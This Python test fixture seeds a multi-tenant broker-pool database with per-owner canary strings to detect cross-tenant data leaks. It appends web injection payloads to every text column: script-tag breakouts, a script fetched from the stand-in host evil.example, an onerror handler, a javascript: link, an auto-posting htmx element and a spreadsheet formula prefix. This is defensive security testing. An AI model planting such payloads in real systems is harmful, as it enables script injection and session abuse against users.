"""A town to break into: every table has rows of two firms, of the pool and of a stranger's pool.

The two firms are those of ``brokers`` (a pool that has settled twice); what they lack of the other
tables is filled up with minimal rows. Then every text that is nobody's code becomes a canary: a
word that says whose it is, of which table and column. Where such a word is read by somebody else,
a wall has a hole. A table made tomorrow joins by itself: both steps go by the models.
"""

import hashlib
import re
from collections.abc import Iterator
from contextlib import ExitStack
from dataclasses import dataclass, field
from datetime import date
from typing import Any, Final

from sqlalchemy import CheckConstraint, Column, Connection, Table, Text, select, text
from sqlalchemy.dialects.postgresql import JSONB
from sqlalchemy.exc import IntegrityError

from pool_module.settlement.operations import papers
from shared.actor import Actor
from shared.db import Engine, accounts, make_engine, open_session
from shared.models import Base
from shared.models.pools import Company
from shared.permissions import Role
from shared.vocabulary import Door
from tests.factories import brokers, filled, rows
from tests.factories.rows import TABLES, Estate
from tests.servers import Database

Row = dict[str, Any]
BERG, ADLER, POOL, FAR = "berg", "adler", "pool", "far"
# texts that are codes, keys or figures, by their column's name wherever it stands
CODES: Final = frozenset({
    "action", "cause", "closed_in", "company_kind", "condition", "country", "currency", "density",
    "door", "earning", "encoding", "format", "frequency", "gdv_key", "hierarchy", "holder_key",
    "incoming_of", "intermediary_type", "key", "kind", "language", "last_side", "level", "line_key",
    "link", "logo_sha256", "media_type", "module", "number_key", "outcome", "password_hash",
    "permission", "phase", "producer_key", "rate_of", "rate_unit", "record_type",
    "reserve_release", "role", "scope", "sha256", "side", "sort_key", "source_digest", "source_key",
    "state", "status", "subject", "task", "theme", "time_zone", "tone", "word", "list",
})  # fmt: skip
# and by table
CODED: Final = frozenset({
    ("reference_dates", "rate"), ("saved_view", "query"), ("account", "email"),
    ("account", "written_as"),
    ("career_level", "code"), ("document", "folder"), ("division", "document_store"),
    ("period", "name"), ("statement", "number"), ("statement_line", "level"),
    ("statement_line", "corrects_number"),
})  # fmt: skip
# in which key of a JSON object the word stands, where any other would be none of the page's
BAGS: Final = {("application", "details"): "occupation"}
# objects that hold figures
COUNTED: Final = frozenset({("settlement_run", "totals"), ("upload", "mapping")})
# what a column of a filled-up row has to hold for its page to be a page
FITTING: Final[dict[str, Row]] = {
    "application": {"state": "submitted"},
    "application_change": {"state": "submitted"},
    "delivery": {"format": "csv", "state": "imported"},
    "delivery_line": {"outcome": "discrepancy"},
    "discrepancy": {"cause": "producer_unknown"},
    "document": {"subject": "contract", "kind": "other", "media_type": "application/pdf"},
    "insurer": {"country": "DE"},
    "notification": {"text": "note", "tone": "info"},
    "producer_status": {"active": True},
    "upload": {
        "format": "csv",
        "state": "checked",
        "details": {"titles": [], "rows": []},
        "mapping": {},
    },
    "saved_view": {"list": "contracts", "query": "state=active"},
    "thread": {"state": "open", "kind": "message"},
    "long_job": {"state": "done", "kind": "import"},
    "audit_entry": {"action": "changed", "subject": "contract"},
}
# read before anybody is known; kept by triggers; and who stands above himself has no end
NOT_FILLED: Final = frozenset({
    "account", "context_key", "issue", "master_access", "placement", "search_word", "web_session",
})  # fmt: skip
# what a broker may have of his own, beside what he has in the pool
PRIVATE: Final = ("customer", "contract", "premium_due", "document")
# what follows each canary: out of an attribute, an inline script, a foreign one, a handler, a link
# that runs, and an element that posts by itself; before it stands what a spreadsheet would run
ATTACK: Final = (
    "\"'><script>alert(1)</script><script src=//evil.example/x.js></script>"
    '<img src=x onerror=alert(1)><a href="javascript:alert(1)">x</a>'
    '<div hx-post="/logout" hx-trigger="load">'
)
FRAGMENTS: Final = (
    "\"'><script", "<script>alert", "<script src=//evil", "<img src=x", '<a href="javascript:',
    '<div hx-post="/logout"',
)  # fmt: skip
PDF: Final = b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n"


@dataclass(frozen=True)
class Somebody:
    """A person with a login and a session that is open already."""

    name: str
    email: str
    door: Door
    role: Role
    firm: str  # berg, adler, pool, gone
    token: str


@dataclass
class Town:
    """The database, who lives there, and whose each row is.

    Attributes:
        rows: by owner and table.
        private: the same, of what a firm has of its own.
        told: what a canary says: (owner, table, column).
    """

    database: Database
    pool_id: int
    people: list[Somebody]
    rows: dict[str, dict[str, list[Row]]]
    private: dict[str, dict[str, list[Row]]]
    told: dict[str, tuple[str, str, str]] = field(default_factory=dict)
    firms: dict[str, int] = field(default_factory=dict)

    def somebody(self, name: str) -> Somebody:
        return next(p for p in self.people if p.name == name)

    def actor(self, name: str) -> Actor:
        """The actor of somebody's transactions."""
        person = self.somebody(name)
        inside = person.door is Door.INTRANET
        firms = frozenset() if inside else frozenset({self.firms[person.firm]})
        return Actor(person.door, self.pool_id, None, person.email, firms)

    def canaries(self, *owners: str, private: bool | None = None) -> set[str]:
        """The canary words of owners; ``private``: of what is a firm's own alone, or never."""
        return {
            word
            for word, (owner, _, _) in self.told.items()
            if owner.partition("_")[0] in owners
            and (private is None or owner.endswith("_own") is private)
        }


def build(database: Database) -> Town:
    """Make and commit the town."""
    with ExitStack() as stack:
        owner, worker = (
            make_engine(url) for url in (database.owner_url, database.door_url(Door.WORKER))
        )
        for engine in (owner, worker):
            stack.callback(engine.dispose)
        return _build(database, owner, worker)


def _build(database: Database, owner: Engine, worker: Engine) -> Town:
    made = brokers.build(database)
    town = Town(database, made.pool_id, [], {}, {}, firms={})
    town.firms = {BERG: made.firms["Berg"], ADLER: made.firms["Adler"]}
    _people(town, worker)
    with owner.begin() as connection, rows.guards_off(connection):
        stranger = Estate(3)
        for table in TABLES:
            _write(connection, table, stranger, rows.values_of(table, stranger))
        for number, firm in ((1, BERG), (2, ADLER)):
            _fill(connection, town, firm, number)
        filled.fill(connection, town.pool_id, town.firms[BERG])
        _about_the_range(connection, town)
        _files(connection, town)
        _say_whose(connection, town)
    with owner.begin() as connection:
        _sessions(connection, town)
    actor = Actor(Door.WORKER, town.pool_id, None, "tests")
    with open_session(worker, actor) as session:
        root = database.config.storage_dir
        assert root is not None
        for statement_id in made.statements.values():
            papers.issue_statement(session, actor, root, statement_id)
        session.commit()
    with owner.connect() as connection:
        town.rows, town.private = _sorted_rows(connection, town)
    return town


def _people(town: Town, worker: Any) -> None:
    """Somebody of every role: staff at the pool's own company, brokers at each firm."""
    actor = Actor(Door.WORKER, town.pool_id, None, "tests")
    with open_session(worker, actor) as session:
        for code, kind, state in (("POOL", "pool", "active"), ("GONE", "firm", "exit")):
            company = Company(
                pool_id=town.pool_id, code=code, name=code.title(), kind=kind, state=state
            )
            session.add(company)
            session.flush()
            town.firms[code.lower()] = company.id
        for role in Role:
            staff = role not in {Role.BROKER, Role.ASSISTANT}
            for firm in ("pool",) if staff else (BERG, ADLER):
                name = role.value if staff or firm == BERG else f"{firm}'s {role.value}"
                _join(session, town, name, role=role, firm=firm)
        _join(session, town, "former partner", role=Role.BROKER, firm="gone")
        session.commit()


def _join(session: Any, town: Town, name: str, *, role: Role, firm: str) -> None:
    staff = role not in {Role.BROKER, Role.ASSISTANT}
    door = Door.INTRANET if staff else Door.EXTRANET
    email = f"{name.replace(' ', '.').replace(chr(39), '')}@town.example"
    account = accounts.create_account(
        session, email=email, name=name.title(), password_hash="-", language="en"
    )
    accounts.create_membership(
        session, account_id=account, company_id=town.firms[firm], door=door, role=role
    )
    token = f"token-of-{email}"
    town.people.append(Somebody(name, email, door, role, firm, token))


def _sessions(connection: Connection, town: Town) -> None:
    """Open a session for each, both factors shown, the step-up just now."""
    for person in town.people:
        connection.execute(
            text(
                "INSERT INTO web_session (token_hash, account_id, membership_id, pool_id, door,"
                " factor_at, stepped_up_at) SELECT :hash, m.account_id, m.id, m.pool_id, m.door,"
                " clock_timestamp(), clock_timestamp() + interval '1 hour' FROM membership m"
                " JOIN account a ON a.id = m.account_id WHERE a.email = :email"
            ),
            {"hash": hashlib.sha256(person.token.encode()).digest(), "email": person.email},
        )


def _write(connection: Connection, table: Table, estate: Estate, values: Row) -> None:
    made = connection.execute(table.insert().values(values).returning(table))
    estate.rows[table.name] = dict(made.mappings().one())


def _fill(connection: Connection, town: Town, firm: str, number: int) -> None:
    """Give a firm a row of every table it has none of, then what is its own alone."""
    estate = Estate(number, rows=_of_firm(connection, town, town.firms[firm]))
    of = next(p.email for p in town.people if p.firm == firm)
    account = Base.metadata.tables["account"]
    found = connection.execute(select(account).where(account.c.email == of)).mappings().one()
    estate.rows["account"] = dict(found)
    for private in (False, True):
        estate.private = private
        for table in TABLES:
            wanted = table.name in PRIVATE if private else table.name not in estate.rows
            if wanted and table.name not in NOT_FILLED:
                _place(connection, town, table, estate)


def _place(connection: Connection, town: Town, table: Table, estate: Estate) -> None:
    number = estate.number
    values = rows.values_of(table, estate) | FITTING.get(table.name, {})
    if table.name == "document":
        values["subject_id"] = estate.rows["contract"]["id"]
    if estate.private and table.name == "contract":
        values |= {"number": f"own {number}", "number_key": f"own {number}"}
    if estate.private and table.name == "premium_due":
        values["due_on"] = date(2026, 6, number)
    mark = connection.begin_nested()
    try:
        _write(connection, table, estate, _freed(table, values, number))
    except IntegrityError:  # the table has room for one: the other firm has it
        mark.rollback()
        estate.rows[table.name] = _any(connection, table, town)
    else:
        mark.commit()


def _any(connection: Connection, table: Table, town: Town) -> Row:
    here = table.c.pool_id == town.pool_id
    return dict(connection.execute(select(table).where(here).limit(1)).mappings().one())


def _about_the_range(connection: Connection, town: Town) -> None:
    """A leaflet of a product, which is the pool's and everybody's to read."""
    document = Base.metadata.tables["document"]
    product = connection.execute(
        text("SELECT id FROM product WHERE pool_id = :pool ORDER BY id"), {"pool": town.pool_id}
    ).scalar()
    values = {"pool_id": town.pool_id, "subject": "product", "subject_id": product,
              "kind": "other", "file_name": "leaflet.pdf", "media_type": "application/pdf",
              "sha256": "-", "size": len(PDF)}  # fmt: skip
    connection.execute(document.insert().values(values))
    strangers = text(
        "UPDATE document d SET subject = 'product', subject_id = p.id FROM product p"
        " WHERE p.pool_id = d.pool_id AND d.pool_id <> :pool"
    )
    connection.execute(strangers, {"pool": town.pool_id})


def _freed(table: Table, values: Row, number: int) -> Row:
    """Values that collide with no row of the pool: words of their own, days far off."""
    for column in table.columns:
        value = values.get(column.name)
        if isinstance(value, str) and value == f"{column.name} {number}":
            values[column.name] = f"{table.name}-{column.name}-{number}-filled"
        if isinstance(value, int) and column.name in {"number", "rank", "position"}:
            values[column.name] = 90 + number
        if isinstance(column.type, Text) and column.name == "currency" and value:
            values[column.name] = "EUR"
    if table.name == "period":
        values["last_day"] = date(2031, number, 28)
    return values


def _of_firm(connection: Connection, town: Town, firm_id: int) -> dict[str, Row]:
    """A row of each table that is the firm's, else the pool's, else none."""
    found: dict[str, Row] = {}
    for table, key, row, owner in _owned(connection):
        _ = key
        if row.get("pool_id", town.pool_id) != town.pool_id and table.name != "pool":
            continue
        if table.name == "pool" and row["id"] != town.pool_id:
            continue
        if owner == firm_id or (owner is None and table.name not in found):
            found.setdefault(table.name, row) if owner is None else found.update({table.name: row})
    return {name: row for name, row in found.items() if _counts(name, row, firm_id)}


def _counts(name: str, row: Row, firm_id: int) -> bool:
    """Whether a row will do for the firm: what names firms must name this one."""
    table = Base.metadata.tables[name]
    return "firm_id" not in table.columns or row["firm_id"] == firm_id


Owned = tuple[Table, tuple[Any, ...], Row, int | None]


def _owned(connection: Connection) -> Iterator[Owned]:
    """Every row with the firm it belongs to, by its own word or its parents'."""
    owners: dict[tuple[str, Any, Any], int | None] = {}
    for table in Base.metadata.sorted_tables:
        order = list(table.primary_key.columns)
        for found in connection.execute(select(table).order_by(*order)).mappings():
            row = dict(found)
            owner = row.get("firm_id")
            if owner is None and table.name == "company" and row["kind"] == "firm":
                owner = row["id"]
            if owner is None:
                owner = next((o for o in _parents(table, row, owners) if o is not None), None)
            key = tuple(row[c.name] for c in table.primary_key.columns)
            if "id" in table.columns:
                owners[table.name, row.get("pool_id"), row["id"]] = owner
            yield table, key, row, owner


def _parents(table: Table, row: Row, owners: dict[Any, int | None]) -> Iterator[int | None]:
    for key in table.foreign_key_constraints:
        column = next((c for c in key.columns if c.name != "pool_id"), None)
        if column is not None and row[column.name] is not None:
            yield owners.get((key.referred_table.name, row.get("pool_id"), row[column.name]))


def _files(connection: Connection, town: Town) -> None:
    """Documents, deliveries and uploads point at bytes that lie there."""
    root = town.database.config.storage_dir
    assert root is not None
    digest = hashlib.sha256(PDF).hexdigest()
    for pool, firm in ((town.pool_id, "pool"), *((town.pool_id, i) for i in town.firms.values())):
        folder = root / str(pool) / str(firm)
        folder.mkdir(parents=True, exist_ok=True)
        (folder / digest).write_bytes(PDF)
    for table in ("document", "delivery", "upload"):
        connection.execute(
            text(f"UPDATE {table} SET sha256 = :digest WHERE pool_id = :pool"),
            {"digest": digest, "pool": town.pool_id},
        )


def _say_whose(connection: Connection, town: Town) -> None:
    """Put a canary into every text, and a further key into every JSON object."""
    names = {number: name for name, number in town.firms.items()}
    # words and sort keys follow the texts they are made of
    for table, trigger in connection.execute(text(
        "SELECT tgrelid::regclass::text, tgname FROM pg_trigger WHERE NOT tgisinternal"
        " AND (tgname IN ('keep_words', 'renew_words') OR tgname LIKE '%\\_key')"
    )).all():  # fmt: skip
        connection.execute(text(f"ALTER TABLE {table} ENABLE TRIGGER {trigger}"))
    for count, (table, key, row, owner) in enumerate(list(_owned(connection))):
        if table.name in {"web_session", "search_word"}:
            continue
        words = _words(town, table, _whose(town, names, table, row, owner), count, row)
        where = [c == v for c, v in zip(table.primary_key.columns, key, strict=True)]
        if words:
            connection.execute(table.update().where(*where).values(words))
    for person in town.people:
        town.told[person.email] = (person.firm, "account", "email")


def _whose(
    town: Town, names: dict[int, str], table: Table, row: Row, owner: int | None
) -> str:  # fmt: skip
    if table.name == "account":
        firms = {p.email: p.firm for p in town.people}
        firms |= {email: BERG if of == "Berg" else ADLER for email, _, of, *_ in brokers.PEOPLE}
        return firms.get(row["email"], FAR)
    here = row.get("pool_id", row["id"] if table.name == "pool" else town.pool_id)
    if here != town.pool_id:
        return FAR
    whose = names.get(owner or 0, POOL)
    return f"{whose}_own" if row.get("private") else whose


def _words(town: Town, table: Table, whose: str, count: int, row: Row) -> Row:
    words: Row = {}
    columns = [c for c in table.columns if _is_text(c) or isinstance(c.type, JSONB)]
    for number, column in enumerate(columns):
        word = f"zq{whose.replace('_', '')}{count:x}q{number:x}q"
        if isinstance(column.type, JSONB):
            place = (table.name, column.name)
            if isinstance(row[column.name], dict) and place not in COUNTED:
                kept = BAGS.get(place, "zq")
                words[column.name] = row[column.name] | {kept: f"={word}{ATTACK}"}
        elif column.name == "email":
            words[column.name] = f"{word}@town.example"
        elif column.name == "file_name":
            words[column.name] = f"{word}\"'><img src=x>.pdf"
        else:
            words[column.name] = f"={word}{ATTACK}"
        if column.name in words:
            town.told[word] = (whose, table.name, column.name)
    return words


def _is_text(column: Column[Any]) -> bool:
    coded = column.name in CODES or (column.table.name, column.name) in CODED
    for rule in column.table.constraints:
        listed = re.compile(rf"\b{column.name}\b[^,]* (IN|=) ")
        coded |= isinstance(rule, CheckConstraint) and bool(listed.search(str(rule.sqltext)))
    made = column.computed is not None or bool(column.foreign_keys)
    return isinstance(column.type, Text) and not coded and not made


def _sorted_rows(
    connection: Connection, town: Town
) -> tuple[dict[str, dict[str, list[Row]]], dict[str, dict[str, list[Row]]]]:
    names = {number: name for name, number in town.firms.items()}
    kept: dict[str, dict[str, list[Row]]] = {}
    own: dict[str, dict[str, list[Row]]] = {}
    for table, _, row, owner in _owned(connection):
        here = row.get("pool_id", row["id"] if table.name == "pool" else town.pool_id)
        whose = FAR if here != town.pool_id else names.get(owner or 0, POOL)
        side = own if row.get("private") else kept
        side.setdefault(whose, {}).setdefault(table.name, []).append(row)
    return kept, own


__all__ = ["ADLER", "BERG", "FAR", "POOL", "Somebody", "Town", "build"]
